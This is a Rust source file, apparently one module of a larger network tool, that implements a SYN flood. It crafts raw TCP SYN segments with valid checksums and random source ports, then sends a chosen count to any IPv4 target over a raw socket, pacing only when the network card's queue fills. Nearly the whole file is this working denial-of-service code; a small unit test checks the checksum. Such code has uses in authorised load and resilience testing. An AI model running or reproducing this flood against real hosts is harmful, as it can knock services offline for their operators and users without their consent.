//! The SYN flood: TCP SYN segments written on a raw socket (the kernel adds the IP header),
//! each from a different random source port, none ever completed.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};

use crate::{Failed, Outcome, classify};

/// The TCP header's length without options, and the SYN flag.
const TCP_HEADER_LEN: usize = 20;
const SYN: u8 = 0x02;

/// Sends `count` SYNs to `to` (IPv4 only); needs CAP_NET_RAW.
pub fn synflood(to: SocketAddr, count: u64) -> Outcome {
    let SocketAddr::V4(to) = to else {
        return Err(Failed("error reason=ipv4-only".into()));
    };
    let source = source_for(to)?;
    // SAFETY: socket(2) with constant arguments; the result is checked.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP) };
    if fd < 0 {
        return Err(Failed(classify(&std::io::Error::last_os_error())));
    }
    // SAFETY: `fd` is a new socket nothing else owns; OwnedFd closes it.
    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    let dest = sockaddr_in(*to.ip(), 0);
    let mut rng = Rng::seeded();
    let mut sent = 0u64;
    let mut full_since: Option<std::time::Instant> = None;
    while sent < count {
        let port = 1024 + (rng.next() % (65536 - 1024)) as u16;
        let segment = syn(source, port, *to.ip(), to.port(), rng.next());
        // SAFETY: the buffer and the address are valid for the lengths given; sendto(2)
        // copies both.
        let n = unsafe {
            libc::sendto(
                std::os::fd::AsRawFd::as_raw_fd(&socket),
                segment.as_ptr().cast(),
                segment.len(),
                0,
                std::ptr::from_ref(&dest).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n < 0 {
            let e = std::io::Error::last_os_error();
            // The card's queue is full: a flood goes as fast as the link takes it, so wait
            // for room (for up to 10 s without any) rather than give up.
            let since = *full_since.get_or_insert_with(std::time::Instant::now);
            if e.raw_os_error() == Some(libc::ENOBUFS) && since.elapsed().as_secs() < 10 {
                std::thread::sleep(std::time::Duration::from_millis(1));
                continue;
            }
            return Err(Failed(format!("{} sent={sent}", classify(&e))));
        }
        full_since = None;
        sent += 1;
    }
    Ok(format!("sent={sent}"))
}

/// The local address the kernel would send to `to` from (a connected UDP socket sends
/// nothing, but is given the route's source address).
fn source_for(to: SocketAddrV4) -> Result<Ipv4Addr, Failed> {
    let probe = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).map_err(|e| Failed(classify(&e)))?;
    probe
        .connect(SocketAddrV4::new(*to.ip(), to.port().max(1)))
        .map_err(|e| Failed(classify(&e)))?;
    match probe.local_addr() {
        Ok(SocketAddr::V4(a)) => Ok(*a.ip()),
        Ok(_) => Err(Failed("error reason=no-ipv4-source".into())),
        Err(e) => Err(Failed(classify(&e))),
    }
}

fn sockaddr_in(ip: Ipv4Addr, port: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(ip).to_be(),
        },
        sin_zero: [0; 8],
    }
}

/// A TCP SYN segment with its checksum over the IPv4 pseudo-header.
fn syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; TCP_HEADER_LEN] {
    let mut h = [0u8; TCP_HEADER_LEN];
    h[0..2].copy_from_slice(&sport.to_be_bytes());
    h[2..4].copy_from_slice(&dport.to_be_bytes());
    h[4..8].copy_from_slice(&seq.to_be_bytes());
    h[12] = ((TCP_HEADER_LEN / 4) as u8) << 4;
    h[13] = SYN;
    h[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = Vec::with_capacity(12 + TCP_HEADER_LEN);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8, 0, TCP_HEADER_LEN as u8]);
    pseudo.extend_from_slice(&h);
    h[16..18].copy_from_slice(&checksum(&pseudo).to_be_bytes());
    h
}

/// The Internet checksum (RFC 1071).
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], c.get(1).copied().unwrap_or(0)])))
        .sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// xorshift32: ports and sequence numbers need only differ, not be unpredictable.
struct Rng(u32);

impl Rng {
    fn seeded() -> Rng {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(1, |d| d.subsec_nanos());
        Rng((nanos ^ std::process::id()) | 1)
    }

    fn next(&mut self) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 17;
        self.0 ^= self.0 << 5;
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_checksums_to_zero_with_its_pseudo_header() {
        let (src, dst) = (Ipv4Addr::new(10, 0, 2, 15), Ipv4Addr::new(10, 0, 2, 2));
        let h = syn(src, 40000, dst, 80, 7);
        assert_eq!(h[13], SYN);
        assert_eq!(h[12] >> 4, 5);
        let mut all = Vec::new();
        all.extend_from_slice(&src.octets());
        all.extend_from_slice(&dst.octets());
        all.extend_from_slice(&[0, 6, 0, 20]);
        all.extend_from_slice(&h);
        assert_eq!(checksum(&all), 0);
        let mut rng = Rng(1);
        assert_ne!(rng.next(), rng.next());
    }
}
